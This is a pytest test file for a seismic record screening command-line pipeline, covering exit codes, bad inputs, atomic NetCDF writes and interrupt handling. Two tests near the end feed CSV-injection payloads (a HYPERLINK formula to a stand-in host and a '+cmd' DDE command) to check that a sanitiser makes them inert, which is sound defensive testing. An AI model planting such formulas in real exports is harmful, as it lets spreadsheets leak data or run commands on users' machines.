"""End to end: the screen command, exit codes, bad files in a batch, atomic round-trip writes."""

from __future__ import annotations

import hashlib
import json
import os
from pathlib import Path

import numpy as np
import pytest
import xarray as xr
from handoff import NO_HANDOFF

from pipeline.cli import main
from pipeline.errors import OutputError
from pipeline.store import open_results, write_atomic


@pytest.fixture(scope="module")
def config():
    """The configuration with nominal verdicts only and the hand-off off (``handoff.NO_HANDOFF``)."""
    from pipeline.config import load_config

    return load_config(NO_HANDOFF[1]).with_uncertainty(samples=0)

def test_screen_writes_dataset_with_records_and_blocks(make_records, blocks_csv, tmp_path):
    root = make_records("peer-at2/RSN1063_NORTHR_RRS228.AT2", "peer-at2/RSN1063_NORTHR_RRS318.AT2",
                        "knet/test.knet")
    out = tmp_path / "out"
    assert main([*NO_HANDOFF,
                 "--samples", "0", "--records", str(root), "--blocks", str(blocks_csv), "--out", str(out), "-q"]) == 0
    ds = open_results(out / "screening.nc")
    n_blocks = sum(1 for line in blocks_csv.read_text().splitlines()[1:] if line.strip())
    assert ds.sizes["record"] == 2 and ds.sizes["block"] == n_blocks
    assert list(ds.status.values) == ["ok", "ok"]
    assert ds.pga.attrs["units"] == "m s-2" and ds.pgv.attrs["units"] == "m s-1"
    rin = ds.sel(record="RSN1063_NORTHR_RRS")
    # peak of the horizontal vector is at least each component's peak
    assert float(rin.pga) >= float(rin.component_pga.sel(component="h1")) - 1e-12
    assert "rockscreen_config" in ds.attrs and "package_versions" in ds.attrs


def test_bad_file_fails_alone_and_sets_exit_code(make_records, blocks_csv, tmp_path, caplog):
    root = make_records("peer-at2/RSN77_SFERN_PUL164.AT2", "knet/test.knet")
    (root / "garbage.AT2").write_bytes(b"\x00\x01 not a record")
    (root / "empty.V2").write_bytes(b"")
    out = tmp_path / "out"
    code = main([*NO_HANDOFF,
                 "--samples", "0", "--records", str(root), "--blocks", str(blocks_csv), "--out", str(out), "-q"])
    assert code == 1
    ds = open_results(out / "screening.nc")
    status = dict(zip(ds.record.values, ds.status.values))
    assert status["RSN77_SFERN_PUL164"] == "ok" and status["test"] == "ok"
    assert "garbage.AT2" in status["garbage"] and "unrecognised format" in status["garbage"]
    assert "empty.V2" in status["empty"] and "empty" in status["empty"]
    assert "garbage.AT2" in caplog.text
    assert main([*NO_HANDOFF,
                 "--samples", "0", "--records", str(root), "--blocks", str(blocks_csv), "--out", str(out), "-q",
                 "--tolerate-failures"]) == 0


def test_bad_inventory_exits_2_and_writes_nothing(make_records, tmp_path, capsys):
    root = make_records("knet/test.knet")
    inv = tmp_path / "inv.csv"
    inv.write_text("id,height_m,width_m\nA,1,0.2\nB,tall,0.2\n")
    out = tmp_path / "out"
    assert main(["--samples", "0", "--records", str(root), "--blocks", str(inv), "--out", str(out)]) == 2
    err = capsys.readouterr().err
    assert "line 3, column 'height_m'" in err and "nothing was screened" in err
    assert not out.exists()


def test_missing_records_dir_is_usage_error(blocks_csv, tmp_path, capsys):
    assert main(["--samples", "0", "--records", str(tmp_path / "nope"), "--blocks", str(blocks_csv)]) == 2
    assert "records directory not found" in capsys.readouterr().err


def test_roundtrip_identical(tmp_path):
    ds = xr.Dataset(
        {"pga": (("record",), np.array([1.5, np.nan])),
         "status": (("record",), np.array(["ok", "failed: x"], dtype=object)),
         "n": (("record",), np.array([3, 4]))},
        coords={"record": np.array(["a", "b"], dtype=object)}, attrs={"title": "t"})
    ds.pga.attrs["units"] = "m s-2"
    path = write_atomic(ds, tmp_path / "r.nc")
    back = open_results(path)
    xr.testing.assert_identical(ds, back)


def test_failed_write_leaves_previous_file_intact(tmp_path, monkeypatch):
    ds = xr.Dataset({"x": (("r",), np.arange(3.0))})
    path = write_atomic(ds, tmp_path / "r.nc")
    before = path.read_bytes()

    def disk_full(self, *a, **k):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(xr.Dataset, "to_netcdf", disk_full)
    with pytest.raises(OutputError, match="No space left.*previous results, if any, are intact"):
        write_atomic(ds * 2, path)
    assert path.read_bytes() == before
    assert [p.name for p in tmp_path.iterdir()] == ["r.nc"]  # no temporary left behind


def test_inventory_flag_supplies_the_response(make_records, blocks_csv, tmp_path, records_dir):
    root = make_records("mseed/CI.CCC..HNE.mseed", "mseed/CI.CCC..HNN.mseed", units_toml=False)
    out = tmp_path / "out"
    assert main([*NO_HANDOFF,
                 "--samples", "0", "--records", str(root), "--blocks", str(blocks_csv), "--out", str(out), "-q"]) == 1
    assert "StationXML" in str(open_results(out / "screening.nc").status.values[0])
    assert main([*NO_HANDOFF,
                 "--samples", "0", "--records", str(root), "--blocks", str(blocks_csv), "--out", str(out), "-q",
                 "--inventory", str(records_dir / "mseed" / "CI.CCC.xml")]) == 0
    ds = open_results(out / "screening.nc")
    # SOURCES.md: HNE 0.565 g, HNN 0.470 g (counts / sensitivity ~2.14e5 per m/s^2)
    assert float(ds.component_pga.sel(component="h2").values[0]) / 9.80665 == pytest.approx(0.565, rel=1e-2)


def test_processing_history_is_reproducible(make_records, config):
    """obspy's history names the StationXML inventory with a memory address; two loads must read the same."""
    from pipeline.records.loader import iter_records
    from pipeline.records.side_files import read_inventory

    root = make_records("mseed/CI.CCC..HNE.mseed", "mseed/CI.CCC..HNN.mseed", "mseed/CI.CCC..HNZ.mseed",
                        "mseed/CI.CCC.xml")

    first = next(iter_records(root, config=config, inventory=read_inventory(root)))
    second = next(iter_records(root, config=config, inventory=read_inventory(root)))
    assert any("remove_sensitivity" in h for h in first.history)
    assert first.history == second.history
    assert not any(" at 0x" in h for h in first.history)


def test_every_variable_has_cf_attributes_and_provenance(make_records, blocks_csv, tmp_path):
    """CF: UDUNITS units (never 'g', which is gram), long_name, consistent flags; global provenance."""
    cf_units = pytest.importorskip("cf_units")
    root = make_records("peer-at2/RSN77_SFERN_PUL164.AT2", "knet/test.knet")
    (root / "bad.AT2").write_text("not a record\n")
    out = tmp_path / "out"
    main([*NO_HANDOFF, "--samples", "0", "--records", str(root), "--blocks", str(blocks_csv), "--out", str(out), "-q"])
    for path in (out / "screening.nc", out / "pulses.nc"):
        ds = open_results(path)
        assert ds.attrs["Conventions"].startswith("CF-")
        for name, var in ds.variables.items():
            if name in ("record", "block", "component"):
                continue
            assert var.attrs.get("long_name"), f"{path.name}:{name} has no long_name"
            units = var.attrs.get("units")
            if units is not None:
                assert units != "g"
                cf_units.Unit(units)                       # raises on anything UDUNITS cannot parse
            if "flag_values" in var.attrs:
                values = np.atleast_1d(var.attrs["flag_values"])
                assert len(values) == len(var.attrs["flag_meanings"].split()), name
                assert var.dtype == values.dtype == np.int8, name
                assert set(np.unique(var.values)) <= set(values.tolist()), name
    ds = open_results(out / "screening.nc")
    for key in ("history", "rockscreen_config", "rockscreen_config_sha256", "package_versions",
                "inventory_sha256", "rockscreen_run_key", "references", "title", "source"):
        assert ds.attrs.get(key), key
    assert json.loads(ds.attrs["package_versions"])["numpy"] == np.__version__
    assert ds.attrs["inventory_sha256"] == hashlib.sha256(blocks_csv.read_bytes()).hexdigest()
    ok = ds.status.values == "ok"
    assert all(len(h) == 64 for h in ds.content_sha256.values[ok])
    assert all(len(h) == 64 for h in ds.block_sha256.values)


def test_full_screening_dataset_roundtrips_identically(make_records, blocks_csv, config, tmp_path):
    """The real results Dataset (strings, int8 flags with attributes, NaN, inf): write, reopen, identical."""
    from pipeline.blocks import read_inventory
    from pipeline.run.batch import run

    root = make_records("peer-at2/RSN77_SFERN_PUL164.AT2", "knet/test.knet")
    (root / "bad.AT2").write_text("not a record\n")
    outcome = run(root, read_inventory(blocks_csv, default_mu=config.blocks.default_mu), config)
    ds, pulses = outcome.results, outcome.pulses.dataset()
    assert np.isinf(ds.criterion_scale.values).any() or np.isnan(ds.criterion_scale.values).any()
    for data, name in ((ds, "screening.nc"), (pulses, "pulses.nc")):
        xr.testing.assert_identical(data, open_results(write_atomic(data, tmp_path / name)))


def test_pulses_written_record_by_record_equal_the_dataset_written_whole(make_records, blocks_csv, config,
                                                                          tmp_path):
    """pulses.nc streamed one record at a time (from the scene cache) reads back identical to the whole
    ragged array written by xarray, variables, attributes and encoding."""
    from pipeline.blocks import read_inventory
    from pipeline.run.batch import run

    root = make_records("peer-at2/RSN77_SFERN_PUL164.AT2", "knet/test.knet", "peer-at2/RSN1063_NORTHR_RRS228.AT2",
                        "peer-at2/RSN1063_NORTHR_RRS318.AT2")
    inventory = read_inventory(blocks_csv, default_mu=config.blocks.default_mu)
    whole = run(root, inventory, config).pulses                  # no output: series kept in memory
    cached = run(root, inventory, config, out_dir=tmp_path / "out").pulses
    streamed = open_results(cached.write(tmp_path / "streamed.nc"))
    written = open_results(write_atomic(whole.dataset(), tmp_path / "whole.nc"))
    assert streamed.sizes["station"] == 3 and streamed.sizes["sample"] > 0
    xr.testing.assert_identical(streamed, written)
    for name in ("velocity", "pulse", "time"):
        assert streamed[name].encoding["zlib"] == written[name].encoding["zlib"]
        assert streamed[name].encoding["dtype"] == written[name].encoding["dtype"]
        assert streamed[name].encoding["chunksizes"] == written[name].encoding["chunksizes"]


@pytest.mark.parametrize("chunk", [997, 2048])
def test_pulses_in_chunks_smaller_than_a_record_read_back_exactly(make_records, blocks_csv, config, tmp_path,
                                                                  monkeypatch, chunk):
    """The per-sample variables are written in chunks of RAGGED_CHUNK samples (not one chunk of the whole
    variable, which the HDF5 cache would hold until the file closes); chunks that cut records anywhere,
    written record by record through a small cache, read back equal to the series in memory."""
    from pipeline.blocks import read_inventory
    from pipeline.run.batch import run
    from pipeline.store import netcdf

    monkeypatch.setattr(netcdf, "RAGGED_CHUNK", chunk)
    root = make_records("peer-at2/RSN77_SFERN_PUL164.AT2", "peer-at2/RSN1063_NORTHR_RRS228.AT2")
    inventory = read_inventory(blocks_csv, default_mu=config.blocks.default_mu)
    whole = run(root, inventory, config).pulses.dataset()
    cached = run(root, inventory, config, out_dir=tmp_path / "out").pulses
    streamed = open_results(cached.write(tmp_path / "streamed.nc"))
    assert streamed.sizes["sample"] > 2 * chunk
    for name in ("velocity", "pulse", "time"):
        assert streamed[name].encoding["chunksizes"] == (chunk,)
        np.testing.assert_array_equal(streamed[name].values, whole[name].values.astype(streamed[name].dtype))


# make test keeps under 5 min from a fresh clone; CI runs it in make test-slow
@pytest.mark.slow
def test_run_layer_equals_the_stages_called_one_by_one(make_records, blocks_csv, config, tmp_path):
    """pipeline.run.stages orchestrates the libraries without changing a result: the same stages called by
    hand (screening, margins) give identical datasets."""
    from pipeline.blocks import read_inventory
    from pipeline.run import ScreenRequest, screen
    from pipeline.run.batch import run
    from pipeline.run.executors import SerialExecutor
    from pipeline.run.margins import add_margins

    root = make_records("peer-at2/RSN1063_NORTHR_RRS228.AT2", "peer-at2/RSN1063_NORTHR_RRS318.AT2",
                        "peer-at2/RSN1063_NORTHR_RRS-UP.AT2", "knet/test.knet")
    inventory = read_inventory(blocks_csv, default_mu=config.blocks.default_mu)
    result = screen(ScreenRequest(records_dir=root, blocks_csv=blocks_csv, inventory=inventory, config=config,
                                  out_dir=tmp_path / "out"))
    with SerialExecutor() as ex:
        outcome = run(root, inventory, config, executor=ex)
        by_hand, histories, _ = add_margins(outcome.results, outcome.sources, outcome.context, ex)
    written = open_results(result.screening_path).drop_vars("screened_utc")
    by_hand = by_hand.drop_vars("screened_utc")
    for name in set(written.attrs) - set(by_hand.attrs):
        del written.attrs[name]                                   # provenance added by the write stage
    xr.testing.assert_identical(written, open_results(write_atomic(by_hand, tmp_path / "by_hand.nc")))
    assert result.counts["records_ok"] == 2 and result.report_path.is_file() and result.assets_path.is_file()


def test_help_names_every_subcommand(capsys):
    with pytest.raises(SystemExit):
        main(["--help"])
    out = capsys.readouterr().out
    for name in ("chart", "report", "bench", "infer"):
        assert f"\n  {name} " in out


def test_quiet_prints_only_warnings_and_verbose_only_rockscreen(make_records, blocks_csv, tmp_path, capsys, caplog):
    root = make_records("peer-at2/RSN77_SFERN_PUL164.AT2")
    assert main([*NO_HANDOFF, "--samples", "0",
                 "--records", str(root), "--blocks", str(blocks_csv), "--out", str(tmp_path / "q"), "-q"]) == 0
    assert capsys.readouterr().err == ""
    # not a terminal: progress lines instead of a bar, then the summary
    assert main([*NO_HANDOFF,
                 "--samples", "0", "--records", str(root), "--blocks", str(blocks_csv), "--out", str(tmp_path / "v"),
                 "-v", "--force"]) == 0
    err = capsys.readouterr().err
    assert "progress: 1/1 records screened" in err and "records: 1 ok" in err
    debug = [r for r in caplog.records if r.levelname == "DEBUG"]
    assert debug and all(r.name.startswith("pipeline") for r in debug)


def test_records_saved_under_any_name_are_read_by_content(make_records, blocks_csv, tmp_path, capsys):
    root = make_records("peer-at2/RSN1063_NORTHR_RRS228.AT2", "peer-at2/RSN1063_NORTHR_RRS318.AT2")
    for f in sorted((root / "peer-at2").iterdir()):
        f.rename(f.with_suffix(".txt"))                       # an AT2 pair saved as .txt
    (root / "notes.csv").write_text("who,what\nme,notes\n")
    out = tmp_path / "out"
    assert main([*NO_HANDOFF,
                 "--samples", "0", "--records", str(root), "--blocks", str(blocks_csv), "--out", str(out)]) == 0
    err = capsys.readouterr().err
    assert "records: 1 ok" in err and "not records: 1 of 3 files (notes.csv)" in err
    ds = open_results(out / "screening.nc")
    assert ds.n_horizontal.values.tolist() == [2]
    assert "notes.csv: no reader recognises its content" in ds.attrs["files_not_records"]


@pytest.mark.parametrize("content", [None, "just some notes\n"])
def test_a_folder_without_records_exits_2_and_leaves_nothing(tmp_path, blocks_csv, capsys, content):
    root = tmp_path / "recs"
    root.mkdir()
    if content is not None:
        (root / "readme.txt").write_text(content)
    out = tmp_path / "out"
    assert main(["--samples", "0", "--records", str(root), "--blocks", str(blocks_csv), "--out", str(out)]) == 2
    err = capsys.readouterr().err
    assert "no strong-motion record found" in err and "Traceback" not in err
    assert not out.exists()


def test_report_into_an_output_it_cannot_create_exits_3_without_a_traceback(make_records, blocks_csv, tmp_path,
                                                                              capsys):
    root = make_records("peer-at2/RSN77_SFERN_PUL164.AT2")
    assert main([*NO_HANDOFF, "--records", str(root), "--blocks", str(blocks_csv), "--out", str(tmp_path / "out"),
                 "--samples", "0", "--fidelity", "criterion"]) == 0
    blocker = tmp_path / "a-file"
    blocker.write_text("")
    capsys.readouterr()
    assert main(["report", str(tmp_path / "out" / "screening.nc"), "--out", str(blocker / "report")]) == 3
    err = capsys.readouterr().err
    assert "error: cannot use" in err and "Traceback" not in err and str(blocker) in err


def test_a_block_named_error_gets_its_margins(make_records, tmp_path, caplog):
    """Tasks report failure with one value (TaskFailure), never a key of their result: a block whose id is
    'error' was once taken for a failed margin task."""
    root = make_records("peer-at2/RSN77_SFERN_PUL164.AT2")
    blocks = tmp_path / "b.csv"
    blocks.write_text("id,height_m,width_m,mu\nerror,1.0,0.2,0.7\nother,1.2,0.3,0.7\n")
    assert main([*NO_HANDOFF, "--records", str(root), "--blocks", str(blocks), "--out", str(tmp_path / "out"),
                 "--samples", "0", "-q"]) == 0
    ds = open_results(tmp_path / "out" / "screening.nc")
    margins = dict(zip(ds.block.values.tolist(), ds.overturn_scale_simulated.values.tolist()))
    assert np.isfinite(margins["error"]) and np.isfinite(margins["other"]), margins
    assert "no margins" not in caplog.text


def test_progress_lines_keep_coming_while_a_task_runs_long(monkeypatch, capsys):
    """The run says at once what it has to do, and a record that takes longer than PROGRESS_LINE_S is not waited
    for in silence."""
    import time

    from pipeline import cli

    monkeypatch.setattr(cli.progress, "PROGRESS_LINE_S", 0.2)

    def slow():
        yield 1
        time.sleep(1.0)              # the second task takes five times the line interval
        yield 2

    assert list(cli._progress_lines(slow(), total=20)) == [1, 2]
    err = capsys.readouterr().err.splitlines()
    assert err[0].startswith("progress: 0/20 records screened"), err       # at once, before the first task ends
    lines = [ln for ln in err if ln.startswith("progress: 1/20")]
    assert len(lines) >= 3, lines


def test_a_terminal_of_no_width_gets_progress_lines_not_an_empty_bar():
    """A pseudo-terminal whose size was never set (columns 0) draws a tqdm bar as nothing at all: measured, a
    42.8 s fragility run printed nothing there. Such a terminal gets the progress lines."""
    import os
    import pty
    import sys

    from pipeline import cli

    master, slave = pty.openpty()
    try:
        with open(slave, "w", closefd=False) as tty:
            saved = sys.stderr
            sys.stderr = tty
            try:
                assert os.get_terminal_size(slave).columns == 0 and tty.isatty()
                assert cli._progress(False) is cli._progress_lines
                import fcntl
                import struct
                import termios

                fcntl.ioctl(slave, termios.TIOCSWINSZ, struct.pack("HHHH", 40, 120, 0, 0))
                assert cli._progress(False) is cli._progress_bar
            finally:
                sys.stderr = saved
    finally:
        os.close(master)
        os.close(slave)


@pytest.mark.parametrize("failing", ["screening.nc", *(pytest.param(name, marks=pytest.mark.slow) for name in
                                                    ("pulses.nc", "histories.nc", "report.html", "assets.csv"))])
def test_a_failed_write_of_any_output_leaves_the_previous_set_byte_identical(make_records, blocks_csv, tmp_path,
                                                                             monkeypatch, failing):
    """The output set is staged, then published together: failing the write of each file in turn, and its
    publication, leaves every previous file as it was (exit 3)."""
    from pipeline.report import html
    from pipeline.store import atomic, netcdf

    root = make_records("peer-at2/RSN1063_NORTHR_RRS228.AT2", "peer-at2/RSN1063_NORTHR_RRS318.AT2",
                        "peer-at2/RSN1063_NORTHR_RRS-UP.AT2")
    out = tmp_path / "out"
    args = [*NO_HANDOFF, "--samples", "0", "--records", str(root), "--blocks", str(blocks_csv), "--out", str(out), "-q"]
    assert main(args) == 0
    names = ("screening.nc", "pulses.nc", "histories.nc", "report.html", "assets.csv")
    before = {n: hashlib.sha256((out / n).read_bytes()).hexdigest() for n in names}
    real = atomic.replace_atomically

    def failing_write(path, write):
        if Path(path).name == failing:
            raise OutputError(f"{path}: planted failure")
        return real(path, write)

    for module in (atomic, netcdf, html):
        monkeypatch.setattr(module, "replace_atomically", failing_write)
    assert main([*args, "--force"]) == 3
    assert {n: hashlib.sha256((out / n).read_bytes()).hexdigest() for n in names} == before
    monkeypatch.undo()
    # the publication itself failing (the switch to the new set refused) restores the previous set too
    real_replace = atomic.os.replace

    def refuse_switch(src, dst, **kw):
        if str(dst).endswith(".current"):
            raise OSError(13, "planted refusal", str(dst))
        return real_replace(src, dst, **kw)

    monkeypatch.setattr(atomic.os, "replace", refuse_switch)
    assert main([*args, "--force"]) == 3
    monkeypatch.undo()
    assert {n: hashlib.sha256((out / n).read_bytes()).hexdigest() for n in names} == before


def test_the_up_to_date_message_counts_files_as_the_summary_does(make_records, blocks_csv, tmp_path, capsys):
    import re

    root = make_records("peer-at2/RSN1063_NORTHR_RRS228.AT2", "peer-at2/RSN1063_NORTHR_RRS318.AT2")
    (root / "notes.txt").write_text("field notes, not a record\n")
    out = tmp_path / "out"
    args = [*NO_HANDOFF, "--samples", "0", "--records", str(root), "--blocks", str(blocks_csv), "--out", str(out)]
    assert main(args) == 0
    summary = capsys.readouterr().err
    seen = int(re.search(r"not records: \d+ of (\d+) files", summary).group(1))
    assert main(args) == 0
    again = capsys.readouterr().err
    assert f"up to date: the records ({seen} files)" in again


def test_the_interrupt_message_tells_the_truth_under_force(tmp_path):
    from pipeline.run.stages import RunInterrupted

    plain = str(RunInterrupted(3, tmp_path / "cache", tmp_path))
    forced = str(RunInterrupted(3, tmp_path / "cache", tmp_path, forced=True))
    assert "Run the same command again to finish" in plain
    assert "without --force" in forced and "with --force every record is screened again" in forced


@pytest.mark.parametrize("cell, written", [
    ('=HYPERLINK("http://x.example/?"&A1,"click")', '\'=HYPERLINK("http://x.example/?"&A1,"click")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("@SUM(1+1)*cmd", "'@SUM(1+1)*cmd"), ("-2+3+cmd", "'-2+3+cmd"),
    ("\tlead", "'\tlead"), ("-0.25", "-0.25"), ("+1e3", "+1e3"), ("plain", "plain"), (-0.25, -0.25), ("", ""),
])
def test_cells_a_spreadsheet_would_execute_are_written_inert(cell, written):
    """The OWASP rule for CSV injection: text that starts like a formula gets a leading apostrophe; numbers
    (negative ones too, as text or not) are kept."""
    from pipeline.store.atomic import inert

    assert inert(cell) == written


def test_an_inventory_name_written_to_assets_csv_cannot_run_in_a_spreadsheet(make_records, tmp_path):
    import csv

    root = make_records("peer-at2/RSN77_SFERN_PUL164.AT2")
    inv = tmp_path / "b.csv"
    inv.write_text('id,name,height_m,width_m\nB1,"=HYPERLINK(""http://x.example"",""open"")",2.0,0.5\n'
                   "B2,+cmd|' /C calc'!A0,1.0,0.4\n")
    out = tmp_path / "out"
    assert main([*NO_HANDOFF,
                 "--samples", "0", "--records", str(root), "--blocks", str(inv), "--out", str(out), "-q"]) == 0
    with open(out / "assets.csv", newline="", encoding="utf-8") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    assert '\'=HYPERLINK("http://x.example","open")' in cells and "'+cmd|' /C calc'!A0" in cells
    assert not any(c.startswith(("=", "+", "@")) for c in cells)


def test_a_signal_during_the_switch_of_an_output_set_never_leaves_half_a_set(tmp_path, monkeypatch):
    """A real SIGINT sent at each rename of a five-file publish over plain files (each adopted into a set, then
    the switch): the publish finishes, then the interrupt is raised; the output is the whole new set (a SIGINT at
    the 6th of the ten renames of the publish before output sets once left no output at all)."""
    import signal

    names = ("screening.nc", "pulses.nc", "histories.nc", "report.html", "assets.csv")
    # Ctrl-C as an interactive run meets it: a shell starts background jobs with SIGINT ignored, and a held SIGINT
    # is then rightly ignored after the switch too
    previous = signal.signal(signal.SIGINT, signal.default_int_handler)
    try:
        _signal_at_every_rename(tmp_path, monkeypatch, names, os.replace)
    finally:
        signal.signal(signal.SIGINT, previous)


def _signal_at_every_rename(tmp_path, monkeypatch, names, real):
    import signal
    import threading

    from pipeline.store import Family, sets

    n_renames, at = None, 0
    while n_renames is None or at < n_renames:
        out = tmp_path / f"out{at}"
        out.mkdir()
        for n in names:
            (out / n).write_text("old")
        stage = sets.staging_dir(out, family=Family.SCREENING)
        for n in names:
            (stage / n).write_text("new")
        calls: list = []

        def replace(src, dst, calls=calls, at=at, **kw):
            if len(calls) == at:     # to this (the main) thread: a process-wide one may go to another thread
                signal.pthread_kill(threading.get_ident(), signal.SIGINT)
            calls.append(dst)
            return real(src, dst, **kw)

        monkeypatch.setattr(sets.os, "replace", replace)
        published = False
        with pytest.raises(KeyboardInterrupt):
            with sets.signals_held():
                sets.publish(stage, out, names)
                published = True
        monkeypatch.undo()
        n_renames = len(calls)
        assert published and n_renames >= 11
        assert [(out / n).read_text() for n in names] == ["new"] * 5
        at += 1


def test_an_interrupt_a_c_extension_turned_into_its_error_mid_run_keeps_the_work_done(make_records, blocks_csv,
                                                                                     tmp_path, monkeypatch, capsys):
    """A Ctrl-C that a C extension's import turns into its own error while the run writes (scipy's HiGHS wrapper:
    ``ImportError: initialization failed``, raised from the interrupt) stops the run as a Ctrl-C does: 130, and
    the message says where the records it screened are kept."""
    from pipeline.run import stages

    def interrupted_import(*args, **kwargs):
        try:
            raise KeyboardInterrupt
        except KeyboardInterrupt as exc:
            raise ImportError("initialization failed") from exc

    monkeypatch.setattr(stages, "report_stage", interrupted_import)
    root = make_records("knet/test.knet")
    code = main([*NO_HANDOFF, "--samples", "0", "--records", str(root), "--blocks", str(blocks_csv),
                 "--out", str(tmp_path / "out"), "-q"])
    assert code == 130
    assert "1 record(s) screened in this run are saved" in capsys.readouterr().err
